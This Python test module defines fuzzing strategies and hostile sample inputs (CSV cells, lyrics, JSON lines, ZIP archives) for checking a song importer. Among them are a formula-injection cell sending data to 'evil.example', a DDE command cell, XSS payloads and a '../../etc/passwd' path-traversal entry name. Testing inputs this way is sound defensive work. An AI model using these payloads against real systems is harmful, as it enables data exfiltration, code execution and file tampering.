"""Hostile values for the input checks: hypothesis strategies and fixed examples of what
uploads really contain (empty files, NUL bytes, invalid UTF-8, mixed scripts, emoji,
HTML and script tags, quotes, formula-injection cells, very long lines)."""

from __future__ import annotations

import csv
import io
import json
import warnings
import zipfile

from hypothesis import strategies as st

# Cells a spreadsheet would run, markup a page could render, text that breaks naive parsers.
HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "=1+2",
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=tabbed",
    "\r=carriage",
    "'=already quoted",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "**bold** [link](javascript:alert(1)) # heading",
    '"quoted, with a comma"',
    'say ""hi""',
    "a,b;c\td",
    "line one\nline two",
    "crlf\r\ninside",
    "emoji 🎵🙏🏽👨‍👩‍👧 and ZWJ",
    "mixed Ελληνικά русский 中文 العربية עברית हिन्दी",
    "\u202eright-to-left override",
    "nul\x00inside",
    "\x01\x02control\x7f",
    "\ufeffbom at the start",
    "ﷺ" * 60,  # one character that NFKD turns into 18
    "x" * 600,  # longer than a title column
    " ",
    "",
)

# Text: anything hypothesis likes, hostile cells, and cells built from pieces of both.
cell_text = st.one_of(
    st.text(max_size=80),
    st.sampled_from(HOSTILE_CELLS),
    st.lists(st.one_of(st.sampled_from(HOSTILE_CELLS), st.text(max_size=10)), max_size=4).map("".join),
)
# Lyrics-like text: lines of hostile pieces, LRC timestamps, section markers, HTML.
LYRIC_PIECES = (
    "[Chorus]", "[00:12.34]", "(x2)", "<br>", "<br/>", "<b>bold</b>", "<script>bad()</script>", "<style>p{}</style>",
    "&amp; &lt;3 &#x1F3B5;", "12Embed", "You might also like", "See Band Live", "[ar:Artist]", "[ti:Title]",
    "*** Lyrics not for commercial use ***", "Praise the Lord", "damn it all", "I will kill you", "  \t  ",
)
lyrics_text = st.one_of(
    st.text(max_size=300),
    st.lists(st.one_of(st.sampled_from(LYRIC_PIECES + HOSTILE_CELLS), st.text(max_size=30)), max_size=30).map(
        "\n".join
    ),
)
raw_bytes = st.one_of(
    st.binary(max_size=2000),
    lyrics_text.map(lambda t: t.encode("utf-8", errors="surrogatepass")),
    lyrics_text.map(lambda t: t.encode("utf-16")),
    lyrics_text.map(lambda t: t.encode("cp1252", errors="replace")),
)

CSV_HEADERS = (
    ["title", "artist", "lyrics", "duration_ms", "explicit"],
    ["Track URI", "Track Name", "Artist Name(s)", "Album Name", "Duration (ms)", "Explicit"],
    ["Title", "Artist"],
    ["name", "artists", "genre", "isrc", "id"],
    ["song", "lyrics", "lyrics"],  # a duplicated column
    ["nothing", "useful", "here"],  # no title column at all
    [],  # no header
)
csv_cell = st.one_of(cell_text, st.integers(-10**12, 10**12).map(str), st.sampled_from(["true", "no", "maybe", ""]))
csv_rows = st.lists(
    st.tuples(st.lists(csv_cell, min_size=0, max_size=7), st.booleans()),  # (cells, ragged: one cell too many)
    max_size=12,
)


def csv_document(header: list[str], rows: list[tuple[list[str], bool]]) -> tuple[bytes, list[list[str]]]:
    """The CSV bytes and the cells of each data row as written (missing cells are empty)."""
    out = io.StringIO()
    writer = csv.writer(out)
    if header:
        writer.writerow(header)
    written = []
    for cells, ragged in rows:
        row = (cells + [""] * len(header))[: len(header)] if header else cells
        if ragged and header:
            row = [*row, "extra"]
        writer.writerow(row)
        written.append(row)
    return out.getvalue().encode("utf-8", errors="surrogatepass"), written


# Any JSON value, and song-like objects whose fields may be any of them.
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | cell_text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=12,
)
song_objects = st.one_of(
    st.fixed_dictionaries(
        {"title": cell_text},
        optional={
            "artist": cell_text, "lyrics": st.one_of(lyrics_text, json_values), "album": cell_text,
            "duration_ms": st.one_of(st.integers(), st.text(max_size=8), st.floats()), "explicit": json_values,
            "spotify_uri": cell_text, "id": json_values, "genre": cell_text,
        },
    ),
    json_values,
)
JSON_EDGE_LINES = (
    '{"title": "surrogate \\ud800 title", "lyrics": "x"}',
    '{"title": "ok", "lyrics": "lone \\udfff surrogate"}',
    '{"title": "nul \\u0000 title"}',
    '{"title": "big", "duration_ms": ' + "9" * 5000 + "}",
    "[" * 100_000,
    '{"title": "trailing comma",}',
    "NaN",
    "",
)


def zip_archive(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", compression=method) as archive:
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are part of the test
        for name, data in entries:
            # A name with a NUL is written whole, as other tools write it (zipfile's own
            # ZipInfo would cut it at the NUL, and an empty name cannot be written at all).
            info = zipfile.ZipInfo("entry", date_time=(1980, 1, 1, 0, 0, 0))
            info.filename = name or "_"
            info.compress_type = method
            archive.writestr(info, data)
    return buffer.getvalue()


entry_names = st.one_of(
    st.sampled_from(["Artist - Title.txt", "01 - Song.lrc", "a/b/c.txt", "../../etc/passwd.txt", "__MACOSX/x.txt",
                     ".hidden.txt", "notes.md", "UPPER.TXT", "x" * 300 + ".txt", "Ω - 中文.lrc"]),
    st.text(max_size=40).map(lambda t: t + ".txt"),
)
zip_entries = st.lists(st.tuples(entry_names, raw_bytes), max_size=6)


def flip_bytes(data: bytes, positions: list[int]) -> bytes:
    """``data`` with the bytes at ``positions`` (modulo its length) inverted: a damaged file."""
    damaged = bytearray(data)
    for position in positions:
        if damaged:
            damaged[position % len(damaged)] ^= 0xFF
    return bytes(damaged)


def json_lines(objects: list[object]) -> bytes:
    return "\n".join(json.dumps(o, ensure_ascii=False) for o in objects).encode("utf-8", errors="surrogatepass")


def big_inputs(megabytes: int = 10) -> dict[str, tuple[str, bytes]]:
    """(file name, content) of files about ``megabytes`` MB each, for every importer: a
    thousand rows of ~10 KB, one enormous line, NULs, bytes that are not UTF-8."""
    size = megabytes * 2**20
    rows = 1000
    verse = ("Praise the Lord 🎵 <b>x</b> =1+1\n" * (size // rows // 32))[: size // rows]
    csv_out = io.StringIO()
    writer = csv.writer(csv_out)
    writer.writerow(["title", "artist", "lyrics"])
    for i in range(rows):
        writer.writerow([f'=HYPERLINK("x{i}")', "Band", verse])
    jsonl = "\n".join(json.dumps({"title": f"Song {i}", "artist": "Band", "lyrics": verse}) for i in range(rows))
    return {
        "csv": ("big.csv", csv_out.getvalue().encode()),
        "jsonl": ("big.jsonl", jsonl.encode()),
        "one line": ("one line.txt", b"la " * (size // 3)),
        "nul bytes": ("nul.csv", b"title\n" + b"\x00" * size),
        "invalid utf-8": ("latin.csv", b"title,lyrics\n" + b"".join(
            b"caf\xe9 %d,\xff\xfe\xfa %s\n" % (i, b"d\xe9j\xe0 vu " * (size // rows // 10)) for i in range(rows))),
        "zip": ("big.zip", zip_archive([(f"Band - Song {i}.txt", verse.encode()) for i in range(rows)])),
    }
